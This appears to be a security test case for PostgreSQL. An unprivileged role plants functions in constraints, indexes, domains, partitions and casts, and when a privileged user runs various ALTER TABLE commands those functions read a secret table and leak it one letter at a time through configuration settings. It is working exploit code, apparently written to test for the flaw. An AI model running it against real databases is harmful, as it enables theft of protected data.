-- Alters tables whose checks, indexes, types or keys make up a parameter by a letter.
-- wants: read
-- shows: letter-116
-- setup:
CREATE FUNCTION coin(given text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM public.vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', false);
  RETURN true;
END $$;
CREATE FUNCTION coined(given text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
  PERFORM public.coin(given);
  RETURN given;
END $$;
CREATE DOMAIN coin_text AS text CHECK (coin(VALUE));
SET ROLE mallory;
CREATE TABLE t_check (a int, v text);
INSERT INTO t_check VALUES (1, 'a');
CREATE TABLE t_using (a int, v text);
INSERT INTO t_using VALUES (1, 'a');
CREATE TABLE t_domain (a int, v text);
INSERT INTO t_domain VALUES (1, 'a');
CREATE TABLE t_valid (a int, v text);
INSERT INTO t_valid VALUES (1, 'a');
ALTER TABLE t_valid ADD CONSTRAINT c CHECK (coin(v)) NOT VALID;
CREATE TABLE t_index (a int, v text);
INSERT INTO t_index VALUES (1, 'a');
CREATE INDEX ON t_index (coined(v));
CREATE TABLE t_child (a int, v text);
INSERT INTO t_child VALUES (1, 'a');
CREATE TABLE t_lower () INHERITS (t_child);
INSERT INTO t_lower VALUES (1, 'b');
CREATE INDEX ON t_lower (coined(v));
CREATE TABLE t_part (a int, v text);
INSERT INTO t_part VALUES (1, 'a');
CREATE TABLE t_parts (a int, v text) PARTITION BY LIST ((coined(v)));
CREATE TYPE mine AS (v text);
CREATE FUNCTION to_mine(text) RETURNS mine LANGUAGE plpgsql AS $$ BEGIN PERFORM public.coin($1); RETURN ROW($1)::mine; END $$;
CREATE CAST (text AS mine) WITH FUNCTION to_mine(text) AS ASSIGNMENT;
CREATE TABLE t_cast (a int, v text);
INSERT INTO t_cast VALUES (1, 'a');
RESET ROLE;
-- attack:
-- session: check
ALTER TABLE t_check ADD CONSTRAINT c CHECK (coin(v));
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: using
ALTER TABLE t_using ALTER v TYPE varchar USING coined(v);
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: domain
ALTER TABLE t_domain ADD COLUMN d coin_text DEFAULT 'x';
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: valid
ALTER TABLE t_valid VALIDATE CONSTRAINT c;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: index
ALTER TABLE t_index ALTER a TYPE bigint;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: child
ALTER TABLE t_child ALTER a TYPE bigint;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: part
ALTER TABLE t_parts ATTACH PARTITION t_part FOR VALUES IN ('a');
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: cast
ALTER TABLE t_cast ALTER v TYPE mine;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
